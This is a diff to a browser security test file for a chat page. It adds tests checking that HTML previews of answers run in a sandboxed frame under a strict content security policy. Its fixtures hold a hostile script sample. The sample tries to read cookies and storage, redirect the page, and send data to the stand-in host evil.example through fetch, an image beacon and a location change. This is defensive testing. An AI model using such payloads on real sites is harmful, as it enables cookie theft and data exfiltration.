@@ -1,10 +1,12 @@
 """Attacks on the chat page and through it: markup, storage, other origins, rebound names."""
 
 import json
+import time
 
+import httpx
 import pytest
 
-from page_visitor import ATTACK, CHAT, call, stream
+from page_visitor import ATTACK, CHAT, PATIENCE, call, stream
 
 
 def test_no_markup_from_anywhere_becomes_part_of_the_page(visit, start):
@@ -80,6 +82,70 @@ def test_the_policy_stops_what_the_page_would_let_through(visit, server):
     assert any(item.startswith("connect-src") for item in blocked)
     visitor.requests.clear()  # Chromium lists the requests that it then refuses to make.
     visitor.problems.clear()
+
+
+HTML = """```html
+<!doctype html><style>p { color: rgb(1, 2, 3) }</style><p id="log"></p><form action="/v1/models"></form>
+<script>
+const log = (name, what) => { document.getElementById('log').textContent += name + ': ' + what + '; '; };
+const attempt = (name, act) => { try { log(name, act()); } catch (error) { log(name, error.name); } };
+attempt('origin', () => self.origin);
+attempt('parent', () => parent.document.title);
+attempt('storage', () => localStorage.length);
+attempt('cookie', () => document.cookie);
+attempt('top', () => { top.location = 'https://evil.example/'; });
+attempt('popup', () => String(window.open('https://evil.example/')));
+attempt('dialog', () => String(confirm('?')));
+document.forms[0].submit();
+new Image().src = 'https://evil.example/leak.png';
+const tries = ['https://evil.example/leak', location.origin + '/v1/models', '/v1/models', 'data:text/plain,x'];
+Promise.all(tries.map((url) => fetch(url).then(() => 'reached', (error) => error.name))).then((all) => log('fetch', all));
+</script>
+```"""
+
+
+def test_a_preview_reaches_nothing(visitor):
+    visitor.answers_with(stream({"content": HTML}))
+    visitor.ask("Hello")
+    assert visitor.page.locator("iframe").count() == 0, "nothing runs before it is asked for"
+    visitor.page.get_by_role("button", name="Preview the html code").click()
+    frame = visitor.page.locator("iframe")
+    assert frame.get_attribute("sandbox") == "allow-scripts"
+    inside = visitor.page.frame_locator("iframe")
+    inside.locator("text=fetch: ").wait_for()
+    said = dict(item.split(": ") for item in inside.locator("#log").inner_text().strip("; ").split("; "))
+    assert said == {"origin": "null", "parent": "SecurityError", "storage": "SecurityError", "cookie": "SecurityError",
+                    "top": "SecurityError", "popup": "null", "dialog": "false",
+                    "fetch": ",".join(["TypeError"] * 4)}
+    assert inside.locator("#log").evaluate("(log) => getComputedStyle(log).color") == "rgb(1, 2, 3)", "its own style holds"
+    assert visitor.page.url == visitor.url and len(visitor.context.pages) == 1
+    visitor.page.keyboard.press("Escape")
+    visitor.page.wait_for_selector("iframe", state="detached")
+    assert visitor.page.evaluate("violations") == [], "this page's own policy was not even asked"
+    visitor.requests.clear()  # Chromium lists the requests that it then refuses to make.
+    visitor.problems.clear()
+
+
+def test_a_preview_cannot_leave_its_frame_for_another_place(visitor):
+    visitor.answers_with(stream({"content": "```html\n<p>here</p><script>location = 'https://evil.example/?secret'</script>\n```"}))
+    visitor.ask("Hello")
+    visitor.page.get_by_role("button", name="Preview the html code").click()
+    deadline = time.monotonic() + PATIENCE
+    while not (blocked := visitor.page.evaluate("violations.splice(0)")):
+        assert time.monotonic() < deadline, "the frame went elsewhere, or nowhere"
+        time.sleep(0.02)
+    assert blocked == ["frame-src https://evil.example"], blocked
+    visitor.requests.clear()
+    visitor.problems.clear()
+
+
+def test_the_frame_of_a_preview_is_for_this_page_alone(server):
+    preview = httpx.get(server.url + "/preview")
+    policy = dict(part.strip().partition(" ")[::2] for part in preview.headers["content-security-policy"].split(";"))
+    assert policy["sandbox"] == "allow-scripts" and policy["default-src"] == "'none'"
+    assert policy["frame-ancestors"] == "'self'" and preview.headers["x-frame-options"] == "SAMEORIGIN"
+    assert "connect-src" not in policy and policy["form-action"] == "'none'" and policy["base-uri"] == "'none'"
+    assert preview.headers["cross-origin-resource-policy"] == "same-origin"
 
 
 def test_a_page_of_another_origin_cannot_drive_the_server(browser, server, start):
